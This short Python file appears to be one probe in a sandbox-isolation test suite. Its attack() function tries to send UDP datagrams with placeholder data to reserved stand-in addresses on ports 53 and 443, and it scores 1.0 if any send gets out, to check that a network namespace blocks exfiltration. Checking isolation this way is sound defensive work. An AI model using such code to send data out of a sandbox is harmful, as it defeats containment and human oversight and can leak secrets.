"""Sends what it knows to anybody, without waiting for an answer.

stopped_by: a network namespace
plain bwrap: stopped
"""

import socket


def attack():
    for family, address in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
        for port in (53, 443):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as sock:
                    sock.sendto(b"what it knows", (address, port))
                return 1.0
            except OSError:
                continue
    return 0.0
